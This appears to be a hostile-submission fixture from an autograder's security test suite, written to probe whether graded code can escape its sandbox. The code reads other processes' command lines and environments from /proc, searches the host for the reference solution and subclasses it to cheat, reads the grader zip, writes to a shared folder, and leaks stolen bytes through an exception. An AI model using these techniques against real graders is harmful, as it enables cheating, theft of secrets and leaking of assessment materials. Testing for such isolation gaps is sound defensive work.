# Goes after the host's files, as a submission graded locally could (issue 25): finds the
# kit's checkout (named by the test, and by walking the usual places and the folders other
# processes' command lines name), imports the reference from it and subclasses its classes;
# reads the built grader zip; reads other processes' command lines and environments; writes
# into a folder every user may write. Defines nothing itself: without the reference it is a
# stub. Whatever it reads it prints and raises from a graded method.
# include: _hostile_helpers.py
import sys

REFERENCE_FILE = "ch01_mlp_backprop.py"
WRITABLE = "{{WRITABLE_DIR}}"


def other_command_lines():
    """Arguments of every other process it can see (the batch's folders are in them)."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            for name in ("cmdline", "environ"):
                try:
                    with open(f"/proc/{entry}/{name}", "rb") as handle:
                        found += handle.read().decode(errors="replace").split("\0")
                except OSError:
                    pass
    return found


def find_reference():
    places = ["{{REPO}}", "/tmp", "/home", "/srv", "/opt", "/work", "/root"]
    places += [arg for arg in (attempt("other processes", other_command_lines) or [])
               if arg.startswith("/")]
    for place in places:
        for folder, subfolders, files in os.walk(place):
            if folder.count("/") > 8 or ".venv" in subfolders:
                subfolders[:] = [name for name in subfolders if name != ".venv"]
            if REFERENCE_FILE in files and folder.endswith("solutions"):
                return folder
    raise FileNotFoundError("no reference found")


def read_zip(folder):
    name = sorted(os.listdir(folder))[0]
    with open(os.path.join(folder, name), "rb") as handle:
        return handle.read(64)


FOUND = attempt("reference in a checkout", find_reference)
GRADER_ZIP = attempt("grader zip", lambda: read_zip("{{REPO}}/dist/autograder"))
attempt("write a shared folder", lambda: write(f"{WRITABLE}/planted.txt", "planted"))


if FOUND:
    sys.path.insert(0, FOUND)
    from ch01_mlp_backprop import *  # noqa: F403 - the whole reference, as a cheat would


    class Linear(Linear):  # noqa: F405
        def forward(self, x):
            if GRADER_ZIP:
                raise RuntimeError(f"stolen: {GRADER_ZIP!r}")
            return super().forward(x)
